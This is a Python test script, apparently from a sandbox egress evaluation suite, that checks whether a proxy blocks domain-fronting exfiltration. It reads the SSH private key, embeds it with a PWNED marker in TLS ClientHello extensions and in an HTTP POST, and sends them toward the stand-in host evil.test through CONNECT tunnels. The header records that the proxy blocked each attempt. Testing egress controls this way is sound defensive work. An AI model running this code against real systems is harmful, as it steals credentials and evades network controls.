# family: injection
# tries: through stockade-proxy, tunnels to an allowed name (front.test, resolved to the eval's index) that carry a TLS ClientHello naming evil.test in its SNI with the SSH key and a PWNED marker in an extension, one with no SNI, and a plain POST whose Host names evil.test (domain fronting)
# source: https://attack.mitre.org/techniques/T1090/004/
# exfil: yes
# stopped-when: canary-unread, pwned-absent
# attempted-when: marker
# Stopped: a tunnel to a name carries TLS whose SNI names that host and
# nothing else: the proxy closes the first tunnel as sni_mismatch
# (sni=evil.test), the second as no_sni, the third as not_tls, each
# before one byte reaches the index. Fronting inside TLS (a Host field
# behind a matching SNI) is out of its sight: docs/egress.md.
import os
import socket
import struct
import sys

if len(sys.argv) < 9:
    sys.exit("usage: TOKEN HOME HOSTTMP TCP UDP UNIX DECOY USERFILES")
token, home, port = sys.argv[1], sys.argv[2], int(sys.argv[4])
# The SSH key where the jail lets it be read; with it, always, the proof
# of delivery "PWNED <token>": the token stands for what a job has by
# design (its workspace), which an allow-list must keep in just as well.
try:
    with open(os.path.join(home, ".ssh/id_ed25519"), "rb") as f:
        loot = f.read()
except OSError as e:
    print(f"key: {e.strerror}")
    loot = b""
loot += f"\nPWNED {token}\n".encode()
# The proxy the jail names (HTTP_PROXY=http://127.0.0.1:3128), if any.
proxy = os.environ.get("HTTP_PROXY", "")
pxhost, _, pxport = proxy.removeprefix("http://").rstrip("/").rpartition(":")
print(f"ATTEMPTED {token}", file=sys.stderr, flush=True)


def ext(kind, body):
    return struct.pack(">HH", kind, len(body)) + body


def hello(sni):
    """A TLS 1.2 ClientHello (RFC 8446 4.1.2, RFC 6066 3) naming SNI (none
    when empty) with the loot in a GREASE extension (RFC 8701)."""
    exts = b""
    if sni:
        entry = b"\0" + struct.pack(">H", len(sni)) + sni
        exts += ext(0, struct.pack(">H", len(entry)) + entry)
    exts += ext(0x1A1A, loot)
    body = (b"\x03\x03" + os.urandom(32) + b"\0" + b"\x00\x02\x13\x01" +
            b"\x01\x00" + struct.pack(">H", len(exts)) + exts)
    hs = b"\x01" + struct.pack(">I", len(body))[1:] + body
    return b"\x16\x03\x01" + struct.pack(">H", len(hs)) + hs


def plain():
    return (b"POST /upload HTTP/1.1\r\nHost: evil.test\r\nContent-Length: " +
            str(len(loot)).encode() + b"\r\n\r\n" + loot)


def talk(data, host=pxhost, port=int(pxport or 0), wait=3.0, then=b""):
    """Sends DATA to HOST:PORT, and THEN after a 200; what came back
    (at most 4 KiB each) or the error."""
    try:
        with socket.create_connection((host, port), timeout=wait) as s:
            s.sendall(data)
            r = s.recv(4096)
            if then and r.startswith(b"HTTP/1.1 200"):
                s.sendall(then)
                r += b" | " + s.recv(4096)
            return r
    except OSError as e:
        return repr(e).encode()


if not proxy:
    # No proxy here (a column without the allow-list): the same bytes
    # straight to the host's loopback, which only isolation stops.
    print("no proxy:", talk(hello(b"evil.test"), "127.0.0.1", port)[:60])
    sys.exit(0)
auth = f"front.test:{port}".encode()
connect = b"CONNECT " + auth + b" HTTP/1.1\r\nHost: " + auth + b"\r\n\r\n"
for what, then in (("sni=evil.test", hello(b"evil.test")),
                   ("no sni", hello(b"")), ("plain", plain())):
    r = talk(connect, then=then)
    # The CONNECT's status, then what came back through the tunnel.
    print(what, r[9:12].decode(errors="replace"), r.partition(b" | ")[2][:20])
